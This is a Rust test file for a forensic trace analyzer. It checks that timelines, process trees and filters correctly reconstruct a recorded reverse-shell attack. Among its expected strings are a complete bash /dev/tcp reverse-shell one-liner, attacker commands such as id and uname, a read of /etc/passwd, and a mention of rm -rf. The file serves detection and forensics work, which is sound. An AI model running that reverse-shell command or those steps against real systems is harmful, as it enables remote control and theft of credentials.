//! `timeline`, `tree` and `check` end to end on the committed fixtures: every fixture's
//! outputs equal its committed expectations (so they are byte-identical run to run), the
//! reverse-shell story is told, filters and formats work, bad input fails clearly.

mod common;
use common::{analyzer, root, text};

/// Every `fixtures/*.zst` (and the synthetic trace) with its expectations directory.
fn fixtures() -> Vec<(Vec<String>, String)> {
    let mut out = Vec::new();
    let dir = root().join("fixtures");
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .expect("fixtures dir")
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".zst"))
        .collect();
    names.sort();
    for n in names {
        let stem = n.trim_end_matches(".zst").to_string();
        out.push((
            vec![format!("fixtures/{n}")],
            format!("fixtures/expected/{stem}"),
        ));
    }
    out.push((
        vec![
            "fixtures/synthetic/reverse-shell.zst".into(),
            "fixtures/synthetic/reverse-shell.000002.zst".into(),
        ],
        "fixtures/synthetic/expected/reverse-shell".into(),
    ));
    out
}

#[test]
fn every_fixture_matches_its_expectations() {
    let all = fixtures();
    assert!(all.len() >= 10, "{all:?}");
    let mut failures = Vec::new();
    for (inputs, expect) in &all {
        let mut args = vec!["check"];
        args.extend(inputs.iter().map(String::as_str));
        args.extend(["--expect", expect]);
        let out = analyzer(&args);
        if out.status.code() != Some(0) {
            failures.push(format!(
                "{inputs:?}:\n{}{}",
                text(&out.stdout),
                text(&out.stderr)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn check_prints_a_diff_and_fails_when_an_output_changes() {
    let dir = tempfile::tempdir().expect("tmp");
    let exp = dir.path().join("exp");
    let src = root().join("fixtures/expected/reverse-shell");
    std::fs::create_dir(&exp).expect("mkdir");
    for f in std::fs::read_dir(&src).expect("expectations").flatten() {
        let f = f.file_name().to_string_lossy().into_owned();
        let f = f.as_str();
        let mut body = std::fs::read_to_string(src.join(f)).expect("read");
        if f == "tree.txt" {
            body = body.replace("uname -a", "uname -r");
        }
        std::fs::write(exp.join(f), body).expect("write");
    }
    let out = analyzer(&[
        "check",
        "fixtures/reverse-shell.zst",
        "--expect",
        exp.to_str().expect("utf8"),
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let o = text(&out.stdout);
    assert!(o.contains("DIFFERS") && o.contains("tree.txt"), "{o}");
    assert!(
        o.contains("-|  ") && o.contains("uname -r") && o.contains("+|"),
        "{o}"
    );
    assert!(
        text(&out.stderr).contains("1 of ") && text(&out.stderr).contains("outputs differ"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn reverse_shell_story_is_told() {
    let out = analyzer(&["timeline", "fixtures/reverse-shell.zst"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let t = text(&out.stdout);
    let find = |needle: &str| {
        t.find(needle)
            .unwrap_or_else(|| panic!("{needle:?} not in timeline:\n{t}"))
    };
    // The web app spawns a shell, which connects back; the listener accepts it; the
    // attacker's commands come in over the socket and run.
    let spawn = find("sh[16032]            exec /bin/sh");
    assert!(t[spawn..].contains("parent python3[16031]"));
    let connect = find("bash[16033]          connected to 127.0.0.1:14444 (tcp)");
    let accept = find("python3[16029]       accepted tcp connection from 127.0.0.1:42680");
    let cmd = find("python3[16029]       sent \"id\\n\" to 127.0.0.1:42680");
    let id = find("id[16034]            exec /usr/bin/id: id  (parent bash[16033]");
    assert!(spawn < connect && connect < accept && accept < cmd && cmd < id);
    find("cat[16036]           read /etc/passwd");
    find("no loss reported");
}

#[test]
fn filters_formats_and_ancestry() {
    // Process tree of the web app: its shell and the attacker's commands, not the
    // listener.
    let out = analyzer(&[
        "timeline",
        "fixtures/reverse-shell.zst",
        "--process-tree",
        "16031",
        "--type",
        "process",
    ]);
    let t = text(&out.stdout);
    assert!(
        t.contains("exec /usr/bin/id") && t.contains("uname -a"),
        "{t}"
    );
    assert!(!t.contains("python3[16029]"), "{t}");
    assert!(!t.contains("read /etc/passwd"), "type filter: {t}");

    let out = analyzer(&[
        "timeline",
        "fixtures/reverse-shell.zst",
        "--grep",
        "ETC/PASSWD",
        "--ancestry",
        "--pid",
        "16036",
    ]);
    let t = text(&out.stdout);
    let lines: Vec<&str> = t
        .lines()
        .filter(|l| !l.starts_with("--") && !l.starts_with('#'))
        .collect();
    assert_eq!(lines.len(), 2, "{t}");
    assert!(
        lines[1].contains("cat[16036] < bash[16033] < sh[16032] < python3[16031] < bash[16022]"),
        "{t}"
    );

    let out = analyzer(&[
        "timeline",
        "fixtures/reverse-shell.zst",
        "--json",
        "--type",
        "network",
    ]);
    assert_eq!(out.status.code(), Some(0));
    let mut n = 0;
    for l in text(&out.stdout).lines() {
        let v: serde_json::Value = serde_json::from_str(l).expect("json line");
        assert!(v["time"].as_str().is_some_and(|s| s.ends_with('Z')), "{l}");
        assert!(v["event"].is_object(), "{l}");
        n += 1;
    }
    assert!(n >= 6, "{n}");

    let out = analyzer(&[
        "timeline",
        "fixtures/reverse-shell.zst",
        "--csv",
        "--pid",
        "16034",
    ]);
    let t = text(&out.stdout);
    let mut r = csv::Reader::from_reader(t.as_bytes());
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("csv row")).collect();
    assert!(
        rows.iter()
            .any(|r| &r[1] == "exec" && r[7].contains("exec /usr/bin/id")),
        "{t}"
    );

    let out = analyzer(&[
        "timeline",
        "fixtures/reverse-shell.zst",
        "--since",
        "+1.2s",
        "--until",
        "2026-11-25T18:05:05.21Z",
    ]);
    let t = text(&out.stdout);
    assert!(
        t.contains("exited 0 after 1.2s") && !t.contains("rm -rf"),
        "{t}"
    );
    assert!(!t.contains("exec /usr/bin/id"), "{t}");
}

#[test]
fn tree_shows_exec_chains_and_counts() {
    let out = analyzer(&[
        "tree",
        "fixtures/reverse-shell.zst",
        "--process-tree",
        "16031",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let t = text(&out.stdout);
    assert!(
        t.starts_with("python3[16031] /usr/bin/python3 /tmp/"),
        "{t}"
    );
    assert!(
        t.contains("`- bash[16033] bash -c exec bash -i >& /dev/tcp/127.0.0.1/14444 0>&1  =>  bash -i  (1.2s, exit 0"),
        "{t}"
    );
    let out = analyzer(&["tree", "fixtures/reverse-shell.zst", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(v[0]["pid"], 16022);
}

#[test]
fn bad_arguments_fail_clearly() {
    let out = analyzer(&["timeline", "fixtures/reverse-shell.zst", "--type", "bogus"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("unknown event type \"bogus\""),
        "{}",
        text(&out.stderr)
    );
    let out = analyzer(&[
        "timeline",
        "fixtures/reverse-shell.zst",
        "--since",
        "yesterday",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("bad time"),
        "{}",
        text(&out.stderr)
    );
    let out = analyzer(&["timeline", "fixtures/reverse-shell.zst", "--grep", "("]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("bad --grep pattern"),
        "{}",
        text(&out.stderr)
    );
    let out = analyzer(&[
        "tree",
        "fixtures/reverse-shell.zst",
        "--process-tree",
        "99999",
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("no process matches"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn truncated_trace_still_tells_what_is_readable() {
    let dir = tempfile::tempdir().expect("tmp");
    let cut = dir.path().join("cut.zst");
    let bytes = std::fs::read(root().join("fixtures/reverse-shell.zst")).expect("read");
    std::fs::write(&cut, &bytes[..bytes.len() - 1500]).expect("write");
    let out = analyzer(&["timeline", cut.to_str().expect("utf8")]);
    assert_eq!(out.status.code(), Some(3), "partial: {}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("damaged"),
        "{}",
        text(&out.stderr)
    );
    assert!(
        text(&out.stdout).contains("connected to 127.0.0.1:14444"),
        "{}",
        text(&out.stdout)
    );
}

#[test]
fn reading_ahead_on_a_second_thread_changes_nothing() {
    // The replay reads and decodes on a second thread by default; REWIND_READ_AHEAD=0
    // does everything on one. Every output must be the same byte for byte.
    for args in [
        &["timeline", "--all", "--json", "fixtures/reverse-shell.zst"][..],
        &["tree", "--json", "fixtures/http-redirect-tls.zst"][..],
        &[
            "query",
            "fixtures/lateral-movement.zst",
            "net_destinations",
            "--csv",
        ][..],
        &["detect", "--json", "fixtures"][..],
    ] {
        let root = common::root();
        let run = |ahead: &str| {
            std::process::Command::new(env!("CARGO_BIN_EXE_analyzer"))
                .current_dir(&root)
                .env("REWIND_READ_AHEAD", ahead)
                .args(args)
                .output()
                .expect("run analyzer")
        };
        let (one, two) = (run("0"), run("1"));
        assert!(
            one.status.success(),
            "{args:?}: {}",
            common::text(&one.stderr)
        );
        assert!(!one.stdout.is_empty(), "{args:?}");
        assert_eq!(one.status.code(), two.status.code(), "{args:?}");
        assert!(one.stdout == two.stdout, "{args:?}: outputs differ");
        assert_eq!(
            common::text(&one.stderr),
            common::text(&two.stderr),
            "{args:?}"
        );
    }
}

#[test]
fn an_interactive_session_is_one_line_per_burst() {
    let dir = tempfile::tempdir().expect("tmp");
    let trace = common::byte_per_snippet_session(dir.path());
    let trace = trace.to_str().expect("utf-8");
    let tl = common::ok(&["timeline", trace]);
    let payload: Vec<&str> = tl
        .lines()
        .filter(|l| l.contains("203.0.113.9:4444") && !l.contains("connect"))
        .collect();
    let want = [
        r#"received "id\n" from 203.0.113.9:4444 (3 B in 3 pieces)"#,
        r#"sent "uid=0(root) gid=0(root)\n" to 203.0.113.9:4444 (24 B in 24 pieces)"#,
        r#"received "ls\n" from 203.0.113.9:4444 (3 B in 3 pieces)"#,
        r#"sent "a" to 203.0.113.9:4444"#,
        r#"sent "b" to 203.0.113.9:4444"#,
    ];
    assert_eq!(payload.len(), want.len(), "{tl}");
    for (line, w) in payload.iter().zip(want) {
        assert!(line.ends_with(w), "{line:?} should end with {w:?}\n{tl}");
    }
    // The exec of `ls` ends the burst: it is printed between "a" and "b".
    let pos = |s: &str| tl.find(s).unwrap_or_else(|| panic!("{s} in\n{tl}"));
    assert!(
        pos(r#"sent "a""#) < pos("exec /usr/bin/ls")
            && pos("exec /usr/bin/ls") < pos(r#"sent "b""#)
    );
    assert!(
        tl.contains("(27 payload pieces joined into the lines of their bursts"),
        "{tl}"
    );
    // CSV joins the same way; JSON lines and dump keep every piece.
    let csv = common::ok(&["timeline", "--csv", trace]);
    assert_eq!(csv.matches(" pieces)").count(), 3, "{csv}");
    let json = common::ok(&["timeline", "--json", trace]);
    assert_eq!(
        json.matches(r#""type":"snippet","weight""#).count(),
        32,
        "{json}"
    );
    let dump = common::ok(&["dump", trace]);
    assert_eq!(
        dump.lines().filter(|l| l.contains("snippet")).count(),
        32,
        "{dump}"
    );
}
